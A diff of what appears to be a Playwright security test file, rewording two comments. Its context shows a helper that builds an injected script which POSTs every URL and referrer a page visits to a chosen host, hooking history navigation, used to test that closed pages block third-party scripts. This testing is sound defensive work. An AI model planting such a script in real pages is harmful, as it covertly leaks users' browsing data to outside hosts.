@@ -71,7 +71,7 @@ test.afterAll(async () => {
   api?.close();
 });
 
-/** Script that reports every readable URL for as long as its document lives. */
+/** Returns a script that reports every readable URL for as long as its document lives. */
 const reads = (to: string) =>
   `const tell = () => fetch("https://${to}", { method: "POST", mode: "no-cors", body: location.href + " " + document.referrer });
    for (const name of ["pushState", "replaceState"]) {
@@ -254,7 +254,7 @@ test("[SEC-INJ-06] [PAGE-16] closed pages don't load third-party scripts, howeve
   await expectSettled(page);
   expect(outside.to("livechat")).toEqual([]);
 
-  // On the first screen chat loads on click; elsewhere it loads automatically.
+  // On the first screen, chat loads on click; elsewhere, it loads automatically.
   await page.goto(at("/", "localhost"));
   await expect(page.getByRole("button", { name: t("chat.help"), exact: true })).toBeVisible();
   await page.goto(at("/preview", "localhost"));
